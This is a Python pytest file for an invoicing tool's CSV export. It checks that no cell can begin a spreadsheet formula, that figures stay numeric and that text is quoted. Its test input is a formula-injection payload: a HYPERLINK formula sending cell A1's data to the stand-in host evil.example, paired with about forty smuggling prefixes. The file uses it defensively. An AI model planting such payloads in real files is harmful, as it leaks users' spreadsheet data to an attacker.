"""Sheets: what strangers wrote stays text in a spreadsheet, and figures stay figures."""

import csv
import io
from decimal import Decimal
from unicodedata import normalize

import pytest

from invoicing.console.sheets import as_csv, harmless

FORMULA = 'HYPERLINK("https://evil.example/?"&A1,"click")'
BEGINNINGS = (
    "=", "+", "-", "@", "|", "%", "==", "=-", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u200b=",
    "\ufeff=", "\u202e=", "\x00=", "\x0b=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\uff5c",
    "\uff05", "\t+", "\r-", "\r\n@", "\u2028=", "\ufe66", "\ufe63", "\ufe62", "\ufe6b", "\ufe6a",
    "\u3000=", "\u2003+", "=\t", "+\n", "-\r", "@ ", "\v-",
)  # fmt: skip


@pytest.mark.parametrize("beginning", BEGINNINGS, ids=ascii)
def test_no_cell_begins_a_formula(beginning: str) -> None:
    head, row = as_csv([f"{beginning}{FORMULA}"], [[f"{beginning}{FORMULA}"]]).splitlines()
    for line in (head, row):
        (cell,) = next(csv.reader(io.StringIO(line)))
        assert normalize("NFKC", cell)[0] not in "=+-@|%\t\r\n "
        assert line.startswith(f'"{cell[0]}')


def test_there_are_forty_beginnings() -> None:
    assert len(set(BEGINNINGS)) == 40


def test_figures_stay_figures_and_text_is_quoted() -> None:
    told = as_csv(["what", "sum"], [['A "b", c', Decimal("-1234.50")], ["", 3]])
    assert told == '"what","sum"\r\n"A ""b"", c",-1234.50\r\n"",3\r\n'


def test_a_text_stays_on_its_line() -> None:
    assert harmless("two\r\nlines") == "two lines"
